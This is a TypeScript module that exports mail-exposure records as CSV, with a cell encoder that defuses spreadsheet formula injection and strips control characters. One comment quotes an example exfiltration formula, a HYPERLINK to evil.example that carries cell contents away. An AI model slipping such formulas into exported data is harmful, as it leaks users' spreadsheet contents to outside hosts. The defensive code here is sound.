import type { Exposure } from "./exposure.ts";

const COLUMNS: readonly (readonly [title: string, value: (it: Exposure) => string | number | undefined])[] = [
  ["mailbox", (it) => it.mailbox],
  ["recipients", (it) => it.recipients.join(" ")],
  ["message", (it) => it.messageId],
  ["subject", (it) => it.subject],
  ["exposure", (it) => it.exposure],
  ["from", (it) => it.since.toISOString()],
  ["until", (it) => it.removedAt?.toISOString()],
  ["back since", (it) => it.backSince?.toISOString()],
  ["minutes", (it) => it.minutes],
  ["read before", (it) => (it.wasRead === undefined ? "unknown" : it.wasRead ? "yes" : "no")],
  ["replied at", (it) => it.replied[0]?.at.toISOString()],
  ["forwarded at", (it) => it.forwarded[0]?.at.toISOString()],
  ["forwarded outside to", (it) => it.forwardedOutside.join(" ")],
  ["outcome", (it) => it.outcome],
  ["reason", (it) => it.reason],
];

/** The first line of the file, with its line end. */
export function exposureCsvHead(): string {
  return lineOf(COLUMNS.map(([title]) => title));
}

export function exposureCsvLine(exposure: Exposure): string {
  return lineOf(COLUMNS.map(([, value]) => value(exposure)));
}

/** As RFC 4180 has it. */
function lineOf(cells: readonly (string | number | undefined)[]): string {
  return `${cells.map(cellOf).join(",")}\r\n`;
}

// A spreadsheet runs what begins like a formula, and senders choose subjects and addresses:
// =HYPERLINK("https://evil.example/?"&A1) would carry the sheet away.
const RUNS = /^[=+\-@\t\r]/u;

function cellOf(value: string | number | undefined): string {
  if (typeof value === "number") return String(value);
  const text = value ?? "";
  const harmless = RUNS.test(text) ? `'${text}` : text;
  // Control characters would draw on a terminal, and a sheet shows them as nothing.
  return `"${harmless.replaceAll(/[\p{Cc}\p{Cf}]/gu, " ").replaceAll('"', '""')}"`;
}
